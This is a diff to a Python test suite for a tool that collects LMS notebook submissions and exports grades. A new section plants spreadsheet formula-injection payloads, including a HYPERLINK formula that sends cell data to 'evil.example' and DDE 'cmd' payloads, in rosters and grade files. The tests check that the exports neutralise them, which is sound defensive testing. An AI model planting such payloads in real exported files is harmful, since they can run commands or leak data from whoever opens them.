@@ -10,6 +10,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import random
 import re
 import subprocess
 import sys
@@ -244,7 +246,7 @@ def test_from_two_lms_downloads_to_their_gradebooks_and_nbgrader_export(tmp_path
     assert "unplaced: notes from the TA.txt" in run.stderr and "superseded: müllerjosé_1201_50001" in run.stderr
     run = _cli("collect", moodle, "--lms", "moodle", "--assignment", ASSIGNMENT, "--out", subs, cwd=tmp_path)
     assert run.returncode == 0, run.stderr
-    assert len(_read(subs / f"collect-{ASSIGNMENT}.csv")) == 5  # the Moodle run's report: every file
+    assert len(_read(subs / f"collect-{ASSIGNMENT}.csv")) == 7 + 5  # every file of both downloads
 
     # An instructor's nbgrader course, with its own gradebook.
     course = tmp_path / "course"
@@ -254,13 +256,22 @@ def test_from_two_lms_downloads_to_their_gradebooks_and_nbgrader_export(tmp_path
                cwd=tmp_path)
     assert run.returncode == 0, run.stderr
     grades = {r["student_id"]: r for r in _read(results / "grades.csv")}
-    assert {k: (v["score"] == v["max_score"], v["status"]) for k, v in grades.items()} == {
-        "1201": (True, "ok"),      # the later, finished upload was graded, not the stub
-        "1202": (True, "ok"),      # late, still graded
-        "1203": (False, "invalid"),
-        "3301": (True, "ok"),
-        "3302": (False, "ok"),     # the later upload "(1)" is the stub
+    assert {k: (v["score"] == v["max_score"], v["status"], v["late"]) for k, v in grades.items()} == {
+        "1201": (True, "ok", ""),        # the later, finished upload was graded, not the stub
+        "1202": (True, "ok", "yes"),     # late, still graded: reported, not penalised
+        "1203": (False, "invalid", ""),
+        "1204": (False, "missing", ""),  # uploaded a PDF only: the reason says so
+        "3301": (True, "ok", ""),
+        "3302": (False, "ok", ""),       # the later upload "(1)" is the stub
     }
+    # every reason collect recorded reaches grades.csv and results.json
+    assert grades["1201"]["reason"] == f"müllerjosé_1201_50001_{NB}.ipynb: superseded by a later file"
+    assert grades["1202"]["reason"] == lms.LATE
+    assert grades["1204"]["reason"] == "smithanna_1204_50030_answers.pdf: not graded: not a notebook (.ipynb)"
+    assert grades["3302"]["reason"] == f"{NB}.ipynb: superseded by a later file"
+    notebooks = {r["student_id"]: r for r in json.loads((results / "results.json").read_text())}
+    assert notebooks["1202"]["late"] is True and notebooks["1201"]["late"] is False
+    assert notebooks["1204"]["reason"] == grades["1204"]["reason"]
 
     canvas_roster = tmp_path / "canvas-roster.csv"
     canvas_roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Müller, José\",1201,,,\n"
@@ -272,12 +283,23 @@ def test_from_two_lms_downloads_to_their_gradebooks_and_nbgrader_export(tmp_path
     with (tmp_path / "canvas.csv").open(encoding="utf-8-sig") as f:
         table = {row[1]: row[5] for row in list(csv.reader(f))[2:]}
     assert table == {"1201": grades["1201"]["score"], "1202": grades["1202"]["score"], "1203": "", "1204": ""}
+    # Canvas's import has no comment column: the reasons are printed
+    assert f"note: 1202 (Nguyễn, Thị Lan): {lms.LATE}" in run.stderr
+    assert "no grade: 1204 (Smith, Anna): Not graded: missing (smithanna_1204_50030_answers.pdf: not graded" in run.stderr
+    run = _cli("export", results, "--format", "csv", "--late-penalty", "10", "--out", tmp_path / "plain.csv", cwd=tmp_path)
+    assert run.returncode == 0, run.stderr
+    plain = {r["student_id"]: r for r in _read(tmp_path / "plain.csv")}
+    whole = float(plain["1202"]["max_score"])
+    assert float(plain["1202"]["score"]) == pytest.approx(float(grades["1202"]["score"]) - whole / 10, abs=0.01)
+    assert plain["1202"]["late"] == "yes" and "(--late-penalty 10%)" in plain["1202"]["reason"]
+    assert plain["1201"]["score"] == grades["1201"]["score"] and "superseded" in plain["1201"]["reason"]
     run = _cli("export", results, "--format", "moodle", "--roster", subs / "students.csv",
                "--out", tmp_path / "moodle.csv", cwd=tmp_path)
     assert run.returncode == 0, run.stderr
     moodle_rows = {r["Identifier"]: r for r in _read(tmp_path / "moodle.csv")}
     assert moodle_rows["Participant 3301"]["Full name"] == "Zoë Brontë"
     assert moodle_rows["Participant 3302"]["Grade"] == grades["3302"]["score"]
+    assert "superseded by a later file" in moodle_rows["Participant 3302"]["Feedback comments"]
 
     # nbgrader's own tools read the gradebook: its API, and `nbgrader export` in the course folder.
     from nbgrader.api import Gradebook
@@ -298,7 +320,7 @@ def test_from_two_lms_downloads_to_their_gradebooks_and_nbgrader_export(tmp_path
         s: float(grades[s]["score"]) for s in ("1201", "1202", "3301", "3302")}
     # Grading again records the new scores in place (a student's regrade replaces the old one).
     json_results = json.loads((results / "results.json").read_text())
-    assert len(json_results) == 5
+    assert len(json_results) == 6
     run = _cli("export-gradebook", results, "--gradebook", course / "gradebook.db", cwd=tmp_path)
     assert run.returncode == 0 and "recorded 4 graded notebooks" in run.stdout, run.stderr
     with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "") as gb:
@@ -348,3 +370,117 @@ def test_the_gradebook_holds_what_nbgrader_autograde_would_record(tmp_path, monk
     (results / "results.json").write_text(json.dumps([result("full", "ok", lambda c: 0)]))
     write_gradebook(results, db, REPO / "solutions")
     assert {s["student"]: s["score"] for s in NbGraderAPI(config=config).get_submissions(ASSIGNMENT)}["full"] == 0
+
+
+# --------------------------------------------------------------------------
+# spreadsheets that run code, and answers instead of tracebacks (issue 24, classes 6 and 7)
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                 "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+FORMULA = re.compile(r"[=+\-@\t\r]")
+
+
+def _hostile_results(tmp: Path) -> tuple[Path, Path]:
+    """A RESULTS folder and a roster whose names, sections and reasons are formulas."""
+    results = tmp / "RESULTS"
+    results.mkdir()
+    (results / "grades.csv").write_text(
+        "student_id,assignment,score,max_score,status,reason,written_points,to_grade_by_hand,late\n"
+        f"s1,{ASSIGNMENT},11,11,ok,,1,1,\n"
+        f"s2,{ASSIGNMENT},0,11,invalid,\"=cmd|' /C calc'!A0\",1,0,\n"
+        f"s3,{ASSIGNMENT},5.5,11,ok,@SUM(A1:A9),1,0,yes\n", encoding="utf-8")
+    roster = tmp / "roster.csv"
+    with roster.open("w", newline="", encoding="utf-8") as f:
+        writer = csv.writer(f)
+        writer.writerow(["student_id", "lms_id", "name", "email", "section"])
+        for number, name in enumerate(HOSTILE_NAMES[:4], 1):
+            writer.writerow([f"s{number}", str(1000 + number), name, f"-{number}@example.org", HOSTILE_NAMES[-number]])
+    return results, roster
+
+
+def test_no_cell_of_an_export_is_a_formula_and_the_lms_reads_its_columns(tmp_path):
+    results, roster = _hostile_results(tmp_path)
+    students = lms.read_roster(roster)
+    assert [s.name for s in students] == HOSTILE_NAMES[:4]  # read back as written
+    for fmt in ("canvas", "moodle", "csv"):
+        out = tmp_path / f"{fmt}.csv"
+        lms.export(results / "grades.csv", fmt, out, roster=students)
+        with out.open(newline="", encoding="utf-8-sig") as f:
+            table = list(csv.reader(f))
+        cells = [cell for row in table for cell in row]
+        live = [c for c in cells if FORMULA.match(c) and not re.fullmatch(r"-?\d+(\.\d+)?|-", c)]
+        assert live == [], (fmt, live)
+        assert any(cell.startswith("'=HYPERLINK") for cell in cells)  # kept, as text
+        header, *rows = table
+        if fmt == "canvas":  # Canvas matches students by ID and reads the assignment's column as a number
+            assert {r[1]: r[5] for r in rows[1:]} == {"1001": "11", "1002": "", "1003": "5.5", "1004": ""}
+            assert rows[0][5] == "12"
+        elif fmt == "moodle":  # Moodle: "Participant <id>", a number or nothing in Grade
+            assert {r[0]: r[4] for r in rows} == {"Participant 1001": "11", "Participant 1002": "",
+                                                  "Participant 1003": "5.5", "Participant 1004": ""}
+        else:  # this tool reads its own CSV back exactly
+            back = {r["student_id"]: r for r in lms.read_csv(out)}
+            assert [back[f"s{n}"]["name"] for n in (1, 2, 3, 4)] == HOSTILE_NAMES[:4]
+            assert back["s2"]["reason"] == "=cmd|' /C calc'!A0"
+
+
+def test_a_collect_report_of_hostile_names_has_no_formula(tmp_path):
+    download = tmp_path / "download"
+    for number, name in enumerate(["=1+2", "@x", "-y"], 1):
+        (download / f"{name}_{number}_assignsubmission_file_").mkdir(parents=True)
+        (download / f"{name}_{number}_assignsubmission_file_" / f"{NB}.ipynb").write_bytes(b"{}")
+    out = tmp_path / "SUBMISSIONS"
+    report = lms.collect(download, ASSIGNMENT, [NB], out, lms.PATTERNS["moodle"])
+    lms.write_collect_report(out, ASSIGNMENT, report, None)
+    for name in (f"collect-{ASSIGNMENT}.csv", "students.csv"):
+        text = (out / name).read_text(encoding="utf-8-sig")
+        assert not [c for row in csv.reader(io.StringIO(text)) for c in row if FORMULA.match(c)], name
+    assert sorted(s.name for s in lms.read_roster(out / "students.csv")) == ["-y", "=1+2", "@x"]
+
+
+def test_a_download_folder_not_in_utf8_is_collected_and_reported(tmp_path):
+    download = tmp_path / "download"
+    odd = os.fsdecode(b"M\xfcller_1201_assignsubmission_file_")  # Latin-1, as an old archiver wrote it
+    (download / odd).mkdir(parents=True)
+    (download / odd / f"{NB}.ipynb").write_bytes(b"{}")
+    (download / "Ann Lee_1202_assignsubmission_file_").mkdir()
+    (download / "Ann Lee_1202_assignsubmission_file_" / f"{NB}.ipynb").write_bytes(b"{}")
+    run = _cli("collect", download, "--lms", "moodle", "--assignment", ASSIGNMENT, "--out", tmp_path / "SUBMISSIONS",
+               cwd=tmp_path)
+    assert run.returncode == 0 and "collected 2 notebooks" in run.stdout, run.stderr
+    report = (tmp_path / "SUBMISSIONS" / f"collect-{ASSIGNMENT}.csv").read_bytes()
+    assert b"M\xfcller_1201" in report  # the name as it is on disk
+    assert [s.lms_id for s in lms.read_roster(tmp_path / "SUBMISSIONS" / "students.csv")] == ["1201", "1202"]
+
+
+def test_a_damaged_file_in_a_download_zip_is_reported_and_the_others_placed(tmp_path):
+    download = tmp_path / "download.zip"
+    with zipfile.ZipFile(download, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(f"leeann_1202_50002_{NB}.ipynb", _notebook(tmp_path, "a", True))
+        archive.writestr(f"muellerjose_1201_50001_{NB}.ipynb", random.Random(0).randbytes(5000))  # does not compress
+    data = bytearray(download.read_bytes())
+    start = data.index(b"muellerjose_1201_50001") + len(f"muellerjose_1201_50001_{NB}.ipynb") + 10
+    data[start:start + 20] = b"\xff" * 20  # inside the second file's compressed data
+    download.write_bytes(bytes(data))
+    out = tmp_path / "SUBMISSIONS"
+    report = _by_file(lms.collect(download, ASSIGNMENT, [NB], out, lms.PATTERNS["canvas"]))
+    damaged = report[f"muellerjose_1201_50001_{NB}.ipynb"]
+    assert damaged.status == "unplaced" and damaged.reason.startswith(lms.UNREADABLE)
+    assert report[f"leeann_1202_50002_{NB}.ipynb"].status == "placed"
+    assert sorted(p.name for p in out.iterdir()) == ["1202"]
+
+
+def test_a_gradebook_that_is_a_folder_or_read_only_is_one_line_and_exit_2(tmp_path):
+    results = tmp_path / "RESULTS"
+    results.mkdir()
+    (results / "results.json").write_text(json.dumps([{"student_id": "s1", "assignment": ASSIGNMENT, "notebook": NB,
+                                                       "status": "missing", "score": 0, "max_score": 11}]))
+    (tmp_path / "folder").mkdir()
+    run = _cli("export-gradebook", results, "--gradebook", tmp_path / "folder", cwd=tmp_path)
+    assert run.returncode == 2 and "is a folder" in run.stderr and "nothing was recorded" in run.stderr
+    assert "Traceback" not in run.stderr and len(run.stderr.strip().splitlines()) == 1
+    assert _cli("export-gradebook", results, "--gradebook", tmp_path / "gradebook.db", cwd=tmp_path).returncode == 0
+    read_only = f"sqlite:///file:{tmp_path / 'gradebook.db'}?mode=ro&uri=true"  # read-only even for root
+    run = _cli("export-gradebook", results, "--gradebook", read_only, cwd=tmp_path)
+    assert run.returncode == 2 and "nothing was recorded" in run.stderr and "readonly" in run.stderr
+    assert "Traceback" not in run.stderr and len(run.stderr.strip().splitlines()) == 1
